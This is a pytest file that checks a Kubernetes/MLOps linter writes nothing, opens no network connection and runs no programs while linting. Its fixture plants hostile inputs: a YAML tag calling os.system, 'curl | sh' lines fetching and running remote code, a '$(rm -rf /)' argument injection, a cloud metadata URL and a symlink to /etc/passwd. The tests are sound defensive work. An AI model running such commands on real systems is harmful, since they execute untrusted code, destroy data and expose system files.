"""No side effects: the linter never writes into the tree it lints (except ``--write-baseline``
and ``init``, which write exactly the file they name), opens no network connection, and runs no
program, whatever the tree contains, but for one: a kustomize build of each kustomization root
(``kubectl kustomize`` or ``kustomize build``, from a temporary folder outside the tree).

Every run here is the real CLI in a subprocess under ``sandbox.py``'s guard: an audit hook that
refuses and records network use, program execution and writes inside the linted tree; the
tree is also snapshotted (content hash, mode and mtime of every entry) before and after.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest
from sandbox import run

from mlops_lint.formats import FORMATS

REPO = Path(__file__).resolve().parents[1]
CORPUS = REPO.parent / "shared" / "corpus"


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry under ``root``: kind, mode, mtime and (files) a content hash; links as links."""
    entries: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root, followlinks=False):
        for name in dirs + files:
            path = Path(folder) / name
            info = path.lstat()
            if path.is_symlink():
                entries[path.relative_to(root).as_posix()] = ("link", os.readlink(path), info.st_mtime_ns)
            elif path.is_file():
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
                entries[path.relative_to(root).as_posix()] = ("file", info.st_mode, info.st_mtime_ns, digest)
            else:
                entries[path.relative_to(root).as_posix()] = ("dir", info.st_mode, info.st_mtime_ns)
    return entries


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A copy of the project's fixtures (every rule's failing and passing files, the reference
    projects, Dockerfiles, scripts, suppressions, a baseline-able history), plus hostile files."""
    root = tmp_path / "tree"
    shutil.copytree(REPO / "fixtures", root, symlinks=True)
    (root / "hostile").mkdir()
    (root / "hostile" / "tagged.yaml").write_text(
        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n"
        "  - name: c\n    image: !!python/object/apply:os.system ['touch /tmp/pwned-by-yaml']\n")
    (root / "hostile" / "run.sh").write_text("#!/bin/sh\ncurl https://example.com/x | sh\naz aks update -g $(rm -rf /) -n c\n")
    (root / "hostile" / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN curl https://example.com | sh\n")
    (root / "hostile" / "values.yaml").write_text("url: http://169.254.169.254/metadata\n")
    os.symlink("/etc/passwd", root / "hostile" / "passwd.yaml")
    return root


def assert_clean(outcome, expect_codes=(0, 1)) -> None:
    assert outcome.returncode in expect_codes, outcome.err
    assert "Traceback" not in outcome.err, outcome.err
    assert outcome.refused == [], outcome.refused


def builds(outcome) -> list[dict]:
    """The kustomize builds the run started (the one program it may run; see sandbox.py)."""
    return [event for event in outcome.events if event["event"] == "build"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_lint_writes_nothing_into_the_tree(tree: Path, tmp_path: Path, fmt: str) -> None:
    before = snapshot(tree)
    report = tmp_path / f"report.{fmt}"
    # run from inside the tree (where a cache or a stray report would land), report outside it
    outcome = run([".", "--format", fmt, "-o", str(report), "--select", "ALL,LNT001", "--jobs", "1"], tree,
                  guard=True, tree=tree)
    assert_clean(outcome)
    assert snapshot(tree) == before
    assert report.stat().st_size > 0
    assert not Path("/tmp/pwned-by-yaml").exists()
    if shutil.which("kubectl") or shutil.which("kustomize"):  # fixtures/kustomize: three roots, each built once
        assert len(builds(outcome)) == 3, builds(outcome)


def test_parallel_run_and_stdout_write_nothing(tree: Path) -> None:
    for index in range(60):  # enough files for the forked workers to be used
        (tree / "many" / f"p{index}.yaml").parent.mkdir(exist_ok=True)
        (tree / "many" / f"p{index}.yaml").write_text(f"apiVersion: v1\nkind: Pod\nmetadata: {{name: p{index}}}\n"
                                                     "spec: {containers: [{name: c, image: 'x:1'}]}\n")
    before = snapshot(tree)
    forked = []
    for args in ([".", "--jobs", "2"], ["many", "--jobs", "2", "--format", "sarif"], ["-", "--stdin-filename", "x.yaml"]):
        outcome = run(args, tree, guard=True, tree=tree, stdin=b"apiVersion: v1\nkind: Pod\nmetadata: {name: s}\n")
        assert_clean(outcome)
        forked.append(any(e["event"] == "os.fork" for e in outcome.events))
    assert forked[1], "the parallel path was not exercised (no worker forked)"
    assert snapshot(tree) == before


def test_baseline_and_init_write_exactly_the_file_they_name(tree: Path, tmp_path: Path) -> None:
    project = tree / "rules" / "GPU001"
    before = snapshot(tree)
    outcome = run([".", "--write-baseline", "baseline.json"], project, guard=True, tree=tmp_path / "elsewhere")
    assert_clean(outcome, (0,))
    after = snapshot(tree)
    assert set(after) - set(before) == {"rules/GPU001/baseline.json"}
    assert {k: v for k, v in after.items() if k != "rules/GPU001/baseline.json" and not k == "rules/GPU001"} == {
        k: v for k, v in before.items() if k != "rules/GPU001"}
    json.loads((project / "baseline.json").read_text())
    # reading a baseline writes nothing
    before = snapshot(tree)
    assert_clean(run([".", "--baseline", "baseline.json"], project, guard=True, tree=tree))
    assert snapshot(tree) == before
    # init writes .mlops-lint.yaml and nothing else, and never overwrites it
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    assert_clean(run(["init"], fresh, guard=True, tree=tmp_path / "elsewhere"), (0,))
    assert sorted(p.name for p in fresh.iterdir()) == [".mlops-lint.yaml"]
    written = (fresh / ".mlops-lint.yaml").read_bytes()
    again = run(["init"], fresh, guard=True, tree=fresh)
    assert again.returncode == 2 and "a config already applies here" in again.err and again.refused == []
    assert (fresh / ".mlops-lint.yaml").read_bytes() == written


def test_the_guard_refuses_what_it_should(tmp_path: Path) -> None:
    """The sandbox itself: each forbidden action, tried in the guarded process, is refused and
    recorded (so an empty record above means nothing was tried)."""
    outcome = run(["--version"], tmp_path, guard=True, tree=tmp_path, env={"MLOPS_SANDBOX_SELFTEST": "1"})
    assert outcome.returncode == 0 and "not refused" not in outcome.err, outcome.err
    assert [e["event"] for e in outcome.refused] == [
        "socket.create_connection", "socket.socket", "socket.getaddrinfo", "subprocess.Popen", "os.system",
        "os.execv", "os.posix_spawn", "write", "os.mkdir", "os.utime"]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(not CORPUS.is_dir(), reason="../shared/corpus is not present (user machine)")
def test_corpus_run_touches_no_network_runs_nothing_writes_nothing(tmp_path: Path) -> None:
    """1,356 real files, every rule, the parallel path."""
    outcome = run([str(CORPUS), "--format", "sarif", "-o", str(tmp_path / "corpus.sarif"), "--select", "ALL,LNT001",
                   "--jobs", "2"], tmp_path, guard=True, tree=CORPUS, timeout=300)
    assert_clean(outcome)
